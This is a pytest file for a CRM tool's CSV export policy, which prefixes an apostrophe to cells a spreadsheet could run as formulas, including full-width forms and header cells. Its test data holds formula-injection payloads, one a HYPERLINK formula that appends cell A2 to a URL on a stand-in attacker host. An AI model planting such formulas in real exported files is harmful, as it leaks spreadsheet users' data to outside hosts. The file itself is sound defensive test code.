"""The one CSV policy (crmcli/io/csv_policy.py): what a spreadsheet could run is neutralised, in
the header too, the full-width forms too, and only crmcli's own mark is taken off on reading."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from crmcli.io.csv_policy import FORMULA_START, neutralise, unneutralise, write_csv
from tests.conftest import Cli


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("https://evil.example/?"&A2, "click")',
        "+1 555 0100",
        "-2+3",
        "@SUM(A1)",
        "\tx",
        "\rx",
        # full-width equals, plus, minus and at: some East Asian spreadsheets run them as formulas
        '\uff1dHYPERLINK("https://evil.example")',
        "\uff0b1",
        "\uff0d1",
        "\uff20SUM(A1)",
    ],
)
def test_a_cell_a_spreadsheet_could_run_is_marked_and_the_mark_comes_off(cell: str) -> None:
    assert cell[:1] in FORMULA_START
    assert neutralise(cell) == "'" + cell
    assert unneutralise(neutralise(cell)) == cell


@pytest.mark.parametrize("cell", ["Ann Lee", "", "'t Hooft", "'quoted'", "A=B", "1+1"])
def test_other_cells_are_left_alone_both_ways(cell: str) -> None:
    # a leading apostrophe a person typed ('t Hooft, a Dutch surname) is theirs, not our mark
    assert neutralise(cell) == cell
    assert unneutralise(cell) == cell


def test_the_header_is_neutralised_too_unless_raw() -> None:
    out = io.StringIO()
    rows = [("=1+1", 2, None, "plain")]
    assert write_csv(rows, ["=cmd", "+n", "none", "name"], out) == 1
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["'=cmd", "'+n", "none", "name"],
        ["'=1+1", "2", "", "plain"],
    ]
    raw = io.StringIO()
    write_csv(rows, ["=cmd", "+n", "none", "name"], raw, raw=True)
    assert raw.getvalue() == "=cmd,+n,none,name\n=1+1,2,,plain\n"


def test_an_apostrophe_name_survives_export_and_import(cli: Cli, tmp_path: Path) -> None:
    cli("contact", "add", "Gerard 't Hooft", "--email", "gerard@example.org")
    cli("contact", "add", "Eve Formula", "--company", '=HYPERLINK("http://x")')
    exported = tmp_path / "contacts.csv"
    cli("export", "contacts", "-o", str(exported))
    with exported.open(encoding="utf-8", newline="") as file:
        rows = {r["name"]: r for r in csv.DictReader(file)}
    assert rows["Gerard 't Hooft"]["last_name"] == "'t Hooft"
    assert rows["Eve Formula"]["company"] == '\'=HYPERLINK("http://x")'
    again = tmp_path / "again.db"
    cli("--db", str(again), "import", str(exported))
    gerard = cli.json("--db", str(again), "contact", "show", "Gerard")
    assert (gerard["name"], gerard["last_name"]) == ("Gerard 't Hooft", "'t Hooft")
    eve = cli.json("--db", str(again), "contact", "show", "Eve")
    assert eve["company"] == '=HYPERLINK("http://x")'
